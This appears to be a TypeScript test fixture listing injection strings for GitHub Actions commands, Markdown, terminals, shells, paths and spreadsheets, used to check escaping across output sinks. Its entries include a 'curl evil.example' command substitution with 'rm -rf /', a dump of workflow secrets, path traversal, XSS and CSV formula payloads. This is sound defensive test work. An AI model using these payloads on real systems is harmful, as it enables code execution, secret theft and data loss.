/** Texts that try to become more than text: in a log, a command file, a Markdown text, an address, a shell. */

import { countChecks } from '../support/figures.ts';
import { halfOf } from '../support/samples.ts';

export const corpus: readonly string[] = [
  // Commands of the runner, in both grammars.
  '::set-output name=pr-link::https://evil.example/',
  '  ::add-path::/tmp/evil',
  '::set-env name=NODE_OPTIONS::--require=/tmp/evil.js',
  '::stop-commands::forever',
  '::error file=a.ts,line=1::not ours',
  'text\r::save-state name=finished::true',
  'text\u2028::debug::x\u2029::debug::y\u0085::debug::z',
  '##[add-mask]docs',
  'in the middle ##[error]of a line ##[group]twice',
  '%0A::error::x%0D%0A##[error]y%250A',
  '\ufeff::warning::x',
  '\u00ad:\u200b:warning::x #\u200d#[error]y',
  '\ufe0f::warning::x #\ufe0f#\u0301[error]y #\u20e3#[error]z',
  '#·#[error]x ##·[error]y ###[error]z',
  // Command files.
  'ghadelimiter_00000000-0000-0000-0000-000000000000\npr-link=evil',
  'x\nEOF\npr-link<<EOF\nevil\nEOF',
  'NODE_OPTIONS=--require=/tmp/evil.js',
  // Markdown.
  '@everyone @octo-org/team and octo@example.com',
  '&#64;everyone &commat;everyone \\@everyone',
  'fixes #1, closes octo-org/octo-repo#2, resolves GH-3, 0123abcdef0',
  'GHSA-aaaa-bbbb-cccc CVE-2026-12345',
  '![pixel](https://evil.example/p.png)',
  '[click](javascript:alert(1)) [ref][1]\n\n[1]: https://evil.example/',
  'https://evil.example/ www.evil.example <https://evil.example/>',
  '<img src=x onerror=alert(1)><script>alert(1)</script>',
  '</code></pre></details></td></table><a href="https://evil.example/">x</a>',
  '<!-- hidden --> <!--> <![CDATA[x]]> <?php ?>',
  'a | b |\n|---|---|\n| c \\| d \\\\| e',
  '\\| `|` \\',
  '`',
  '``',
  '``` ` ````',
  ' `x` ',
  '```\n</details>\n~~~\n````\n@everyone',
  '`'.repeat(500),
  '# Heading\n\n> quote\n- list\n1. list\n\n---\n\n    code\n[^1]: note',
  '$\\href{https://evil.example}{x}$ :tada: ~~x~~ **y** _z_ \\',
  // What is not seen, or seen otherwise.
  'user\u202etxt.exe\u202c \u2066isolate\u2069 \u200e\u200f\u061c',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u009b2J\b\b',
  'nul\u0000 bell\u0007 del\u007f',
  'lone \ud800 surrogates \udfff',
  'tags \u{e0041}\u{e0042} soft\u00adhyphen zero\u200bwidth',
  '',
  ' \n\t ',
  // Expressions, shells, paths.
  '\u0024{{ secrets.API_KEY }} \u0024{{ toJSON(secrets) }}',
  '$(curl evil.example) `id` ; rm -rf / && true',
  '../../../etc/passwd',
  '%2e%2e%2f..\\..\\',
  '__proto__',
  'constructor',
  '{"error": {"message": "x"}}',
  '/guides/ends-with-backslash\\',
  `/guides/${'long/'.repeat(400)}`,
  // All at once.
  [
    'The prompt was not accepted. @everyone, see #1 and GH-2.',
    '::set-output name=pr-link::https://evil.example/',
    '##[add-mask]docs',
    'text ##[error]in the middle of a line',
    '::stop-commands::everything',
    '![pixel](https://evil.example/p.png) [click](javascript:alert(1)) <img src=x onerror=alert(1)>',
    '```',
    '</details></code></pre><script>alert(1)</script>',
    '| a | b |\r\n|---|---|\r\n%0A::warning::hidden',
    'closes #1 \u202Etxet desrever\u202C \u200Bnothing\uFEFF',
  ].join('\n'),
  // Formulas.
  "=cmd|' /C calc'!A0",
  '+1+1',
  '\t@SUM(A1)',
];

export function countTexts(checks: number): void {
  countChecks('injection corpus: strings × sinks', checks);
}

export const inPlaces = <T>(places: Readonly<Record<string, T>>, texts = corpus) =>
  Object.entries(places).map(([name, use], index) => [name, use, halfOf(texts, index)] as const);
